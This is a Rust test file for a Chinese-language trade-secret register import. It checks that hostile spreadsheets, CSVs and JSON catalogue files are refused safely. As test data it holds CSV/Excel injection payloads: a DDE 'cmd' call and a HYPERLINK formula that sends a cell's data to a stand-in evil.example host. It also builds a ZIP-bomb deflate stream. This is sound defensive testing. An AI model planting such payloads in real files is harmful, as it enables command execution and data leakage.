//! Hostile input to the register import (.xlsx, .csv) and to a loaded
//! catalogue file: each is refused with a clear Chinese message, nothing
//! panics, memory stays bounded, and the database is left as it was.

use std::io::Write;

use midun::catalogue::{Catalogue, DEFAULT_CATALOGUE_JSON, MAX_CATALOGUE_BYTES};
use midun::import::{
    csv_rows, read_rows, spreadsheet_safe, xlsx_rows, ImportOutcome, RowError, MAX_CELL_CHARS,
    MAX_FILE_BYTES, MAX_ROWS,
};
use midun::model::{Category, NewEnterprise, NewSecretPoint, DEFAULT_LEVELS};
use midun::store::Store;
use midun::Error;

struct Env {
    dir: tempfile::TempDir,
    s: Store,
    eid: String,
}

/// A store with one enterprise and one 密点 already in it.
fn env() -> Env {
    let (dir, db) = crate::temp_db();
    let s = Store::open(&db).unwrap();
    let eid = s
        .enterprises()
        .create(&NewEnterprise {
            name: "恶意输入测试企业".into(),
            ..Default::default()
        })
        .unwrap()
        .id;
    s.points()
        .add(&NewSecretPoint {
            enterprise_id: eid.clone(),
            code: Some("OLD-1".into()),
            name: "已有的密点".into(),
            category: Category::Technical,
            level: "核心".into(),
        })
        .unwrap();
    Env { dir, s, eid }
}

/// What must not change: the 密点 (code, name, every field as JSON), the
/// 事项 and both audit chains.
fn state(e: &Env) -> (String, usize, usize, usize) {
    let points = serde_json::to_string(&e.s.points().list(&e.eid).unwrap()).unwrap();
    (
        points,
        e.s.points().items(&e.eid).unwrap().len(),
        e.s.audit().log(Some(&e.eid)).unwrap().len(),
        e.s.audit().log(None).unwrap().len(),
    )
}

/// Import `bytes` as the file `name` the way the CLI and the app do.
fn import(e: &mut Env, name: &str, bytes: &[u8]) -> midun::Result<ImportOutcome> {
    let path = e.dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    let rows = read_rows(&path)?;
    e.s.points().import(&e.eid, &rows)
}

/// The file is refused as a whole (IMPORT_FILE_INVALID); the message is
/// returned; nothing changed.
fn refused(e: &mut Env, name: &str, bytes: &[u8]) -> String {
    let before = state(e);
    let msg = match import(e, name, bytes) {
        Err(err) => {
            assert_eq!(err.code(), "IMPORT_FILE_INVALID", "{err}");
            err.to_string()
        }
        Ok(out) => panic!("{name} accepted: {out:?}"),
    };
    assert!(msg.starts_with("导入文件无法使用："), "{msg}");
    assert_eq!(state(e), before, "{name} changed the database");
    msg
}

/// The file is read but its rows are refused, each problem named; nothing
/// changed.
fn row_errors(e: &mut Env, name: &str, bytes: &[u8]) -> Vec<RowError> {
    let before = state(e);
    let out = import(e, name, bytes).unwrap();
    assert_eq!(out.imported, 0);
    assert!(!out.errors.is_empty());
    assert_eq!(state(e), before, "{name} changed the database");
    out.errors
}

fn cells(out: &[RowError]) -> Vec<(usize, &str)> {
    out.iter().map(|r| (r.row, r.column.as_str())).collect()
}

const HEAD: [&str; 5] = ["代号", "名称", "类别", "密级", "保密期限"];

fn csv(rows: &[&[&str]]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in rows {
        w.write_record(*r).unwrap();
    }
    w.into_inner().unwrap()
}

fn sheet_with_head() -> rust_xlsxwriter::Workbook {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in HEAD.iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    book
}

// ---------------------------------------------------------------------------
// A minimal .xlsx written by hand (stored entries, or a raw deflate stream
// with whatever sizes the test declares).

fn crc32(data: &[u8]) -> u32 {
    let table: Vec<u32> = (0..256u32)
        .map(|n| {
            (0..8).fold(n, |c, _| {
                if c & 1 == 1 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                }
            })
        })
        .collect();
    !data.iter().fold(!0u32, |c, &b| {
        table[((c ^ b as u32) & 0xFF) as usize] ^ (c >> 8)
    })
}

struct Entry {
    name: &'static str,
    /// 0 stored, 8 deflate.
    method: u16,
    data: Vec<u8>,
    crc: u32,
    /// The uncompressed size the headers declare.
    size: u32,
}

fn stored(name: &'static str, data: &[u8]) -> Entry {
    Entry {
        name,
        method: 0,
        crc: crc32(data),
        size: data.len() as u32,
        data: data.to_vec(),
    }
}

fn zip_file(entries: &[Entry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let offset = out.len() as u32;
        let header = |sig: u32, central: bool| {
            let mut h = Vec::new();
            h.extend(sig.to_le_bytes());
            if central {
                h.extend(20u16.to_le_bytes());
            }
            h.extend(20u16.to_le_bytes());
            h.extend(0u16.to_le_bytes());
            h.extend(e.method.to_le_bytes());
            h.extend(0u16.to_le_bytes());
            h.extend(0x21u16.to_le_bytes());
            h.extend(e.crc.to_le_bytes());
            h.extend((e.data.len() as u32).to_le_bytes());
            h.extend(e.size.to_le_bytes());
            h.extend((e.name.len() as u16).to_le_bytes());
            h.extend(0u16.to_le_bytes());
            if central {
                // comment length, disk, internal and external attributes
                h.extend([0u8; 10]);
                h.extend(offset.to_le_bytes());
            }
            h.extend(e.name.as_bytes());
            h
        };
        out.extend(header(0x0403_4b50, false));
        out.extend(&e.data);
        central.extend(header(0x0201_4b50, true));
    }
    let cd_offset = out.len() as u32;
    out.extend(&central);
    out.extend(0x0605_4b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(cd_offset.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

const WORKBOOK: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const WORKBOOK_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
const CONTENT_TYPES: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;

/// An .xlsx whose first sheet is `sheet` (an entry built by the caller).
fn xlsx_with(sheet: Entry) -> Vec<u8> {
    zip_file(&[
        stored("[Content_Types].xml", CONTENT_TYPES),
        stored("xl/workbook.xml", WORKBOOK),
        stored("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
        sheet,
    ])
}

const SHEET_OPEN: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#;

/// The header row as inline strings.
fn head_row() -> String {
    let mut s = String::from(r#"<row r="1">"#);
    for (c, h) in ["名称", "类别", "密级"].iter().enumerate() {
        s.push_str(&format!(
            r#"<c r="{}1" t="inlineStr"><is><t>{h}</t></is></c>"#,
            (b'A' + c as u8) as char
        ));
    }
    s.push_str("</row>");
    s
}

/// A raw deflate stream (one fixed-Huffman block) of `1 + 258 * n` spaces:
/// a few bytes per 258 of output, as a ZIP bomb is made.
fn deflated_spaces(n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u64, 0u32);
    let mut put = |value: u64, len: u32, reversed: bool| {
        // Huffman codes go most significant bit first; everything else
        // least significant first.
        let v = if reversed {
            (0..len).fold(0, |r, i| (r << 1) | ((value >> i) & 1))
        } else {
            value
        };
        acc |= v << bits;
        bits += len;
        while bits >= 8 {
            out.push(acc as u8);
            acc >>= 8;
            bits -= 8;
        }
    };
    put(1, 1, false); // BFINAL
    put(1, 2, false); // fixed Huffman
    put(0x30 + b' ' as u64, 8, true); // literal ' '
    for _ in 0..n {
        put(0xC5, 8, true); // length 258 (code 285)
        put(0, 5, true); // distance 1
    }
    put(0, 7, true); // end of block
    put(0, 7, false); // flush
    out
}

// ---------------------------------------------------------------------------
// .xlsx

#[test]
fn formulas_are_refused_not_evaluated_nor_taken_by_their_cached_value() {
    use rust_xlsxwriter::Formula;
    let mut e = env();
    let mut book = sheet_with_head();
    let sheet = book.worksheet_from_index(0).unwrap();
    sheet.write_string(1, 1, "公式名称").unwrap();
    sheet.write_formula(1, 0, "=1+1").unwrap();
    sheet
        .write_formula(
            2,
            1,
            Formula::new(r#"=HYPERLINK("http://evil.example/x","点此查看")"#)
                .set_result("点此查看"),
        )
        .unwrap();
    // DDE, as in CSV/Excel injection.
    sheet
        .write_formula(3, 1, Formula::new("=cmd|' /C calc'!A0").set_result("0"))
        .unwrap();
    for r in 1..=3 {
        sheet.write_string(r, 2, "技术信息").unwrap();
        sheet.write_string(r, 3, "核心").unwrap();
    }
    let msg = refused(&mut e, "公式.xlsx", &book.save_to_buffer().unwrap());
    for cell in ["A2", "B3", "B4"] {
        assert!(msg.contains(cell), "{msg}");
    }
    assert!(
        msg.contains("含公式") && msg.contains("选择性粘贴"),
        "{msg}"
    );
}

#[test]
fn a_text_cell_that_looks_like_a_formula_is_plain_text() {
    let e = env();
    let mut book = sheet_with_head();
    let sheet = book.worksheet_from_index(0).unwrap();
    sheet.write_string(1, 1, "=1+1").unwrap();
    sheet.write_string(1, 2, "技术信息").unwrap();
    sheet.write_string(1, 3, "核心").unwrap();
    let rows = xlsx_rows(book.save_to_buffer().unwrap()).unwrap();
    assert_eq!(rows[1][1], "=1+1");
    let out = e.s.points().import(&e.eid, &rows).unwrap();
    assert_eq!(out.imported, 1, "{:?}", out.errors);
    assert!(e
        .s
        .points()
        .list(&e.eid)
        .unwrap()
        .iter()
        .any(|p| p.name == "=1+1"));
}

#[test]
fn merged_cells_are_refused_by_range() {
    use rust_xlsxwriter::Format;
    let mut e = env();
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ["事项", "名称", "类别", "密级"].iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    sheet
        .merge_range(1, 0, 3, 0, "熬制工艺", &Format::new())
        .unwrap();
    for r in 1..=3 {
        sheet.write_string(r, 1, format!("工序要点{r}")).unwrap();
        sheet.write_string(r, 2, "技术信息").unwrap();
        sheet.write_string(r, 3, "核心").unwrap();
    }
    let msg = refused(&mut e, "合并.xlsx", &book.save_to_buffer().unwrap());
    assert!(msg.contains("跨行合并的单元格 A2:A4"), "{msg}");
    assert!(msg.contains("取消合并"), "{msg}");
}

#[test]
fn a_title_merged_across_a_row_above_the_header_is_read_past() {
    use rust_xlsxwriter::Format;
    let mut e = env();
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    // As registers are kept: a title over the columns, a note, then the header.
    sheet
        .merge_range(0, 0, 0, 4, "某某公司商业秘密密点台账", &Format::new())
        .unwrap();
    sheet.write_string(1, 0, "填表说明：每个密点一行").unwrap();
    for (c, h) in HEAD.iter().enumerate() {
        sheet.write_string(2, c as u16, *h).unwrap();
    }
    for (r, name) in [(3, "熬制火候要点"), (4, "客户名单汇编")] {
        sheet.write_string(r, 1, name).unwrap();
        sheet.write_string(r, 2, "技术信息").unwrap();
        sheet.write_string(r, 3, "核心").unwrap();
    }
    sheet.write_string(5, 1, "缺类别的密点").unwrap();
    sheet.write_string(5, 3, "核心").unwrap();
    let bytes = book.save_to_buffer().unwrap();
    // A row with a problem is named by its row in the sheet (6), not below the header.
    let errors = row_errors(&mut e, "带标题.xlsx", &bytes);
    assert_eq!(cells(&errors), [(6, "类别")], "{errors:?}");

    let path = e.dir.path().join("带标题-改正.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet
        .merge_range(0, 0, 0, 4, "某某公司商业秘密密点台账", &Format::new())
        .unwrap();
    for (c, h) in HEAD.iter().enumerate() {
        sheet.write_string(1, c as u16, *h).unwrap();
    }
    sheet.write_string(2, 1, "熬制火候要点").unwrap();
    sheet.write_string(2, 2, "技术信息").unwrap();
    sheet.write_string(2, 3, "核心").unwrap();
    std::fs::write(&path, book.save_to_buffer().unwrap()).unwrap();
    let out =
        e.s.points()
            .import(&e.eid, &read_rows(&path).unwrap())
            .unwrap();
    assert_eq!(out.imported, 1, "{:?}", out.errors);
    assert!(e
        .s
        .points()
        .list(&e.eid)
        .unwrap()
        .iter()
        .any(|p| p.name == "熬制火候要点"));
}

#[test]
fn a_csv_with_a_title_line_finds_its_header_and_one_without_a_header_names_the_columns() {
    let mut e = env();
    let titled = csv(&[
        &["密点台账（2026 年）", "", "", "", ""],
        &["", "", "", "", ""],
        &HEAD,
        &["", "配料表", "技术信息", "核心", ""],
    ]);
    let out = import(&mut e, "带标题.csv", &titled).unwrap();
    assert_eq!(out.imported, 1, "{:?}", out.errors);
    // No row names two columns: the first row is taken as the header and its gaps named.
    let headless = csv(&[&["密点台账", "", ""], &["配料表", "技术信息", "核心"]]);
    let errors = row_errors(&mut e, "无表头.csv", &headless);
    assert_eq!(cells(&errors), [(1, "名称"), (1, "类别"), (1, "密级")]);
}

#[test]
fn a_sheet_of_1048576_rows_is_refused_by_its_dimension_before_it_is_read() {
    let mut e = env();
    let mut xml = String::from(SHEET_OPEN);
    xml.push_str(r#"<dimension ref="A1:L1048576"/><sheetData>"#);
    xml.push_str(&head_row());
    xml.push_str(&"<row><c><v>1</v></c></row>".repeat(1_048_575));
    xml.push_str("</sheetData></worksheet>");
    let file = xlsx_with(stored("xl/worksheets/sheet1.xml", xml.as_bytes()));
    let t = std::time::Instant::now();
    let msg = refused(&mut e, "百万行.xlsx", &file);
    assert!(
        msg.contains("1048576") && msg.contains(&format!("{MAX_ROWS} 行的上限")),
        "{msg}"
    );
    assert!(msg.contains("A1:L1048576"), "{msg}");
    assert!(t.elapsed().as_secs() < 5, "{:?}", t.elapsed());
}

#[test]
fn a_sheet_whose_dimension_lies_is_refused_when_its_rows_pass_the_limit() {
    let mut e = env();
    // Rows without numbers, a dimension of one row.
    let mut xml = String::from(SHEET_OPEN);
    xml.push_str(r#"<dimension ref="A1:C1"/><sheetData>"#);
    xml.push_str(&head_row());
    xml.push_str(&"<row><c><v>1</v></c></row>".repeat(MAX_ROWS + 50));
    xml.push_str("</sheetData></worksheet>");
    let msg = refused(
        &mut e,
        "行数不符.xlsx",
        &xlsx_with(stored("xl/worksheets/sheet1.xml", xml.as_bytes())),
    );
    assert!(msg.contains(&format!("{MAX_ROWS} 行的上限")), "{msg}");

    // One cell in the sheet's very last row, no dimension.
    let mut xml = String::from(SHEET_OPEN);
    xml.push_str("<sheetData>");
    xml.push_str(&head_row());
    xml.push_str(r#"<row r="1048576"><c r="A1048576"><v>1</v></c></row>"#);
    xml.push_str("</sheetData></worksheet>");
    let msg = refused(
        &mut e,
        "末行.xlsx",
        &xlsx_with(stored("xl/worksheets/sheet1.xml", xml.as_bytes())),
    );
    assert!(msg.contains("1048576"), "{msg}");

    // A cell far to the right.
    let mut xml = String::from(SHEET_OPEN);
    xml.push_str("<sheetData>");
    xml.push_str(&head_row());
    xml.push_str(r#"<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>"#);
    xml.push_str("</sheetData></worksheet>");
    let msg = refused(
        &mut e,
        "宽表.xlsx",
        &xlsx_with(stored("xl/worksheets/sheet1.xml", xml.as_bytes())),
    );
    assert!(msg.contains("XFD2") && msg.contains("列"), "{msg}");
}

#[test]
fn a_zip_bomb_is_refused_by_its_declared_size_and_by_its_real_size() {
    let mut e = env();
    // 300 MB of spaces in about 2 MB.
    let n = 300 * 1024 * 1024 / 258;
    let bomb = deflated_spaces(n);
    assert!(bomb.len() < 3 * 1024 * 1024);
    let real = (1 + 258 * n) as u32;
    // Honest headers: refused before anything is decompressed.
    let t = std::time::Instant::now();
    let msg = refused(
        &mut e,
        "炸弹.xlsx",
        &xlsx_with(Entry {
            name: "xl/worksheets/sheet1.xml",
            method: 8,
            data: bomb.clone(),
            crc: 0,
            size: real,
        }),
    );
    assert!(msg.contains("恶意构造的压缩文件"), "{msg}");
    assert!(msg.contains("sheet1.xml"), "{msg}");
    assert!(t.elapsed().as_millis() < 2000, "{:?}", t.elapsed());
    // Headers that lie (a few KB declared): refused when the real size
    // passes the limit, in a bounded buffer.
    let msg = refused(
        &mut e,
        "炸弹2.xlsx",
        &xlsx_with(Entry {
            name: "xl/worksheets/sheet1.xml",
            method: 8,
            data: bomb,
            crc: 0,
            size: 4096,
        }),
    );
    assert!(msg.contains("恶意构造的压缩文件"), "{msg}");
}

#[test]
fn truncated_corrupt_encrypted_and_empty_xlsx_files_are_refused() {
    let mut e = env();
    let mut book = sheet_with_head();
    let sheet = book.worksheet_from_index(0).unwrap();
    for (c, v) in ["", "一个密点", "技术信息", "核心"].iter().enumerate() {
        sheet.write_string(1, c as u16, *v).unwrap();
    }
    let good = book.save_to_buffer().unwrap();
    // Cut in half: no central directory.
    let msg = refused(&mut e, "半个.xlsx", &good[..good.len() / 2]);
    assert!(msg.contains("不完整或已损坏"), "{msg}");
    // Damaged compressed data, directory intact.
    let mut bad = good.clone();
    // Flip bytes inside every entry's data (past the first local header).
    for i in (200..bad.len() / 2).step_by(97) {
        bad[i] ^= 0x5A;
    }
    let msg = refused(&mut e, "损坏.xlsx", &bad);
    assert!(msg.contains(".xlsx"), "{msg}");
    // An OLE compound file: a password-protected workbook or an old .xls.
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.resize(4096, 0);
    let msg = refused(&mut e, "加密.xlsx", &ole);
    assert!(msg.contains("密码") && msg.contains(".xls"), "{msg}");
    // Empty file, random bytes.
    refused(&mut e, "空.xlsx", b"");
    refused(&mut e, "随机.xlsx", &noise(8192));
    // A workbook whose sheet XML ends early.
    let xml = format!(
        "{SHEET_OPEN}<sheetData>{}<row r=\"2\"><c r=\"A2\"",
        head_row()
    );
    let msg = refused(
        &mut e,
        "截断XML.xlsx",
        &xlsx_with(stored("xl/worksheets/sheet1.xml", xml.as_bytes())),
    );
    assert!(msg.contains("工作表无法读取"), "{msg}");
}

#[test]
fn error_values_and_impossible_dates_in_cells_are_named() {
    use rust_xlsxwriter::Format;
    let mut e = env();
    // An error value (#DIV/0!) without a formula.
    let mut xml = String::from(SHEET_OPEN);
    xml.push_str("<sheetData>");
    xml.push_str(&head_row());
    xml.push_str(r##"<row r="2"><c r="A2" t="e"><v>#DIV/0!</v></c></row>"##);
    xml.push_str("</sheetData></worksheet>");
    let msg = refused(
        &mut e,
        "错误值.xlsx",
        &xlsx_with(stored("xl/worksheets/sheet1.xml", xml.as_bytes())),
    );
    assert!(msg.contains("A2") && msg.contains("#DIV/0!"), "{msg}");

    // Date cells that are no date: before 1900 and after 9999.
    let mut book = sheet_with_head();
    let sheet = book.worksheet_from_index(0).unwrap();
    let date = Format::new().set_num_format("yyyy-mm-dd");
    for (r, serial) in [(1u32, -5.0), (2, 3_000_000.0)] {
        sheet.write_string(r, 1, format!("日期{r}")).unwrap();
        sheet.write_string(r, 2, "技术信息").unwrap();
        sheet.write_string(r, 3, "核心").unwrap();
        sheet.write_number_with_format(r, 4, serial, &date).unwrap();
    }
    let errors = row_errors(&mut e, "坏日期.xlsx", &book.save_to_buffer().unwrap());
    assert_eq!(
        cells(&errors),
        [(2, "保密期限"), (3, "保密期限")],
        "{errors:?}"
    );
}

// ---------------------------------------------------------------------------
// .csv

fn noise(n: usize) -> Vec<u8> {
    let mut x = 0x2545_F491_4F6C_DD1Du64;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

#[test]
fn csv_in_a_wrong_encoding_is_refused_with_the_way_out() {
    let mut e = env();
    let text = "名称,类别,密级\r\n熬制工艺控制要点,技术信息,核心\r\n";
    // UTF-16 with and without BOM (Excel's "Unicode text").
    let mut le = vec![0xFF, 0xFE];
    le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let msg = refused(&mut e, "utf16.csv", &le);
    assert!(msg.contains("UTF-16") && msg.contains("CSV UTF-8"), "{msg}");
    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let msg = refused(&mut e, "utf16be.csv", &be);
    assert!(msg.contains("空字符"), "{msg}");
    // Random bytes.
    refused(&mut e, "随机.csv", &noise(4096));
    // Big5 and Shift-JIS: not UTF-8, and not GB18030 text either.
    let big5_text = "名稱,類別,密級\r\n熬製工藝控制要點,技術資訊,核心\r\n";
    let (big5, _, _) = encoding_rs::BIG5.encode(big5_text);
    let msg = refused(&mut e, "big5.csv", &big5);
    assert!(msg.contains("编码无法识别"), "{msg}");
    let sjis_text = "名称,類別,密級\r\nｶﾀｶﾅの工程,技術情報,核心\r\n";
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode(sjis_text);
    let msg = refused(&mut e, "sjis.csv", &sjis);
    assert!(msg.contains("编码无法识别"), "{msg}");
    // GB18030 itself still reads.
    let (gb, _, _) = encoding_rs::GB18030.encode(text);
    assert_eq!(import(&mut e, "gb.csv", &gb).unwrap().imported, 1);
}

#[test]
fn a_ten_megabyte_field_is_refused_and_a_long_one_is_named_by_row_and_column() {
    let mut e = env();
    let mut file = b"\xEF\xBB\xBF\xE5\x90\x8D\xE7\xA7\xB0,\xE7\xB1\xBB\xE5\x88\xAB,\xE5\xAF\x86\xE7\xBA\xA7\n\"".to_vec();
    file.extend(std::iter::repeat_n(b'x', 10 << 20));
    file.extend("\",技术信息,核心\n".as_bytes());
    let msg = refused(&mut e, "大字段.csv", &file);
    assert!(
        msg.contains("第 2 行第 1 列（A2）") && msg.contains(&format!("{MAX_CELL_CHARS} 个字符")),
        "{msg}"
    );
    // Rows handed to the store directly (not through the reader): the
    // long cell is a row error under its column.
    let before = state(&e);
    let long = "长".repeat(MAX_CELL_CHARS + 1);
    let rows = vec![
        vec![
            "名称".to_string(),
            "类别".into(),
            "密级".into(),
            "概述".into(),
        ],
        vec![
            "正常名称".to_string(),
            "技术信息".into(),
            "核心".into(),
            long,
        ],
    ];
    let out = e.s.points().import(&e.eid, &rows).unwrap();
    assert_eq!(out.imported, 0);
    assert_eq!(cells(&out.errors), [(2, "概述")]);
    assert!(out.errors[0].reason.contains("上限"), "{:?}", out.errors);
    assert_eq!(state(&e), before);
}

#[test]
fn a_file_larger_than_the_limit_is_refused_unread() {
    let e = env();
    let path = e.dir.path().join("巨大.csv");
    let f = std::fs::File::create(&path).unwrap();
    // Sparse: the size is checked before anything is read.
    f.set_len(MAX_FILE_BYTES + 1).unwrap();
    let before = state(&e);
    let err = read_rows(&path).unwrap_err();
    assert_eq!(err.code(), "IMPORT_FILE_INVALID");
    assert!(err.to_string().contains("超过 64.0 MB 的上限"), "{err}");
    assert_eq!(state(&e), before);
    let xlsx = e.dir.path().join("巨大.xlsx");
    std::fs::rename(&path, &xlsx).unwrap();
    assert!(read_rows(&xlsx).unwrap_err().to_string().contains("上限"));
}

#[test]
fn a_csv_of_1048576_rows_is_refused() {
    let mut e = env();
    let mut file = "名称,类别,密级\n".to_string();
    file.push_str(&"x,技术信息,核心\n".repeat(1_048_575));
    let t = std::time::Instant::now();
    let msg = refused(&mut e, "百万行.csv", file.as_bytes());
    assert!(msg.contains(&format!("{MAX_ROWS} 行的上限")), "{msg}");
    assert!(t.elapsed().as_secs() < 5, "{:?}", t.elapsed());
    // Many columns: a filled cell past the limit.
    let mut wide = vec![""; 200];
    wide[0] = "名称";
    wide[199] = "x";
    let msg = refused(&mut e, "宽.csv", &csv(&[&wide]));
    assert!(msg.contains("第 200 列"), "{msg}");
}

#[test]
fn invalid_dates_are_named_by_row_and_nothing_is_written() {
    let mut e = env();
    let file = csv(&[
        &HEAD,
        &["", "二月三十日", "技术信息", "核心", "2030-02-30"],
        &["", "十三月", "技术信息", "核心", "2030-13-01"],
        &["", "零日", "技术信息", "核心", "0000-00-00"],
        &["", "文字", "技术信息", "核心", "明年年底"],
        &["", "五位年份", "技术信息", "核心", "99999-01-01"],
        &["", "合格", "技术信息", "核心", "2030-12-31"],
    ]);
    let errors = row_errors(&mut e, "日期.csv", &file);
    assert_eq!(
        cells(&errors),
        [
            (2, "保密期限"),
            (3, "保密期限"),
            (4, "保密期限"),
            (5, "保密期限"),
            (6, "保密期限")
        ]
    );
    assert!(errors[0].reason.contains("2030-02-30"), "{errors:?}");
}

#[test]
fn duplicate_codes_in_the_file_in_the_register_or_with_a_generated_one_are_refused() {
    let mut e = env();
    // In the file, and with a 密点 already in the register.
    let file = csv(&[
        &HEAD,
        &["A-1", "甲", "技术信息", "核心", ""],
        &["A-1", "乙", "技术信息", "核心", ""],
        &["OLD-1", "丙", "技术信息", "核心", ""],
    ]);
    let errors = row_errors(&mut e, "重号.csv", &file);
    assert_eq!(cells(&errors), [(3, "代号"), (4, "代号")]);
    assert!(errors[0].reason.contains("第 2 行"), "{errors:?}");
    assert!(errors[1].reason.contains("OLD-1"), "{errors:?}");
    // A row without a 代号 is numbered MD-<year>-001; a later row that
    // gives that 代号 collides with it, which is found when writing.
    let year = chrono::Local::now().format("%Y").to_string();
    let generated = format!("MD-{year}-001");
    let file = csv(&[
        &HEAD,
        &["", "自动编号", "技术信息", "核心", ""],
        &[&generated, "手填同号", "技术信息", "核心", ""],
    ]);
    let errors = row_errors(&mut e, "撞号.csv", &file);
    assert_eq!(cells(&errors), [(3, "代号")]);
    assert!(errors[0].reason.contains("自动生成"), "{errors:?}");
}

#[test]
fn formula_text_is_stored_as_text_and_never_as_a_code() {
    let mut e = env();
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"点击")"#;
    let dde = "=cmd|' /C calc'!A0";
    let file = csv(&[
        &["代号", "名称", "类别", "密级", "概述", "责任部门", "责任人"],
        &["", hyperlink, "技术信息", "核心", dde, "-2+3", "@SUM(A1)"],
        &["", "+86 工艺", "经营信息", "一般", "", "", ""],
    ]);
    let out = import(&mut e, "注入.csv", &file).unwrap();
    assert_eq!(out.imported, 2, "{:?}", out.errors);
    let points = e.s.points().list(&e.eid).unwrap();
    let p = points.iter().find(|p| p.name == hyperlink).unwrap();
    assert_eq!(
        (
            p.summary.as_str(),
            p.department.as_str(),
            p.responsible.as_str()
        ),
        (dde, "-2+3", "@SUM(A1)")
    );
    // The register's export is a PDF: the text is printed as it is.
    let ent = e.s.enterprises().get(&e.eid).unwrap();
    let levels: Vec<String> = DEFAULT_LEVELS.iter().map(|s| s.to_string()).collect();
    let r = midun::report::render_register(&ent, &points, &levels, chrono::Local::now()).unwrap();
    assert!(r.bytes.starts_with(b"%PDF-"));
    // A 代号 goes into the hash manifest (CSV): one a spreadsheet would
    // run is refused.
    let before = state(&e);
    for code in ["=1+1", "+1", "-1", "@A1", "=cmd|'/Ccalc'!A0"] {
        let file = csv(&[&HEAD, &[code, "代号注入", "技术信息", "核心", ""]]);
        let errors = row_errors(&mut e, "代号注入.csv", &file);
        assert_eq!(cells(&errors), [(2, "代号")], "{code}");
        assert!(errors[0].reason.contains("= + - @"), "{errors:?}");
    }
    assert_eq!(state(&e), before);
    // What any spreadsheet export must do with such text.
    assert_eq!(spreadsheet_safe(dde), format!("'{dde}"));
    assert_eq!(spreadsheet_safe("@SUM(A1)"), "'@SUM(A1)");
    assert_eq!(spreadsheet_safe("熬制工艺"), "熬制工艺");
}

#[test]
fn csv_quirks_do_not_panic_or_write_anything() {
    let mut e = env();
    // An unclosed quote, a lone CR, control characters, an empty file.
    for (name, bytes) in [
        ("未闭合.csv", b"\xE5\x90\x8D\xE7\xA7\xB0,\"abc\n".to_vec()),
        ("空.csv", Vec::new()),
        ("只有BOM.csv", b"\xEF\xBB\xBF".to_vec()),
        ("回车.csv", b"a\rb\rc".to_vec()),
    ] {
        let before = state(&e);
        let _ = import(&mut e, name, &bytes);
        assert_eq!(state(&e), before, "{name}");
    }
    // Header only.
    let msg = refused(&mut e, "只有表头.csv", &csv(&[&HEAD]));
    assert!(msg.contains("没有可导入的密点"), "{msg}");
    assert!(csv_rows(b"").unwrap().is_empty());
}

// ---------------------------------------------------------------------------
// A loaded catalogue file

fn catalogue_error(text: &str) -> Error {
    Catalogue::parse(text, "local.json", false).unwrap_err()
}

fn edited(f: impl FnOnce(&mut serde_json::Value)) -> String {
    let mut v: serde_json::Value = serde_json::from_str(DEFAULT_CATALOGUE_JSON).unwrap();
    f(&mut v);
    v.to_string()
}

#[test]
fn a_malformed_or_deeply_nested_catalogue_is_unreadable_not_a_crash() {
    for text in ["", "not json", "{\"id\": ", "\u{feff}[1,2", "null"] {
        let e = catalogue_error(text);
        assert_eq!(e.code(), "CATALOGUE_UNREADABLE", "{text:?}: {e}");
        assert!(e.to_string().contains("local.json"), "{e}");
    }
    // 100,000 levels of nesting, at the top and inside a field.
    let deep = "[".repeat(100_000);
    let e = catalogue_error(&deep);
    assert_eq!(e.code(), "CATALOGUE_UNREADABLE");
    let deep_field = format!("{{\"id\": {}", "{\"a\":".repeat(100_000));
    let e = catalogue_error(&deep_field);
    assert_eq!(e.code(), "CATALOGUE_UNREADABLE", "{e}");
    let mut v = serde_json::json!(1);
    for _ in 0..200 {
        v = serde_json::json!([v]);
    }
    let e = catalogue_error(&edited(|c| c["title"] = v));
    assert!(e.to_string().contains("类型或取值不符"), "{e}");
}

#[test]
fn an_unknown_format_field_a_duplicate_key_or_a_bad_version_is_refused() {
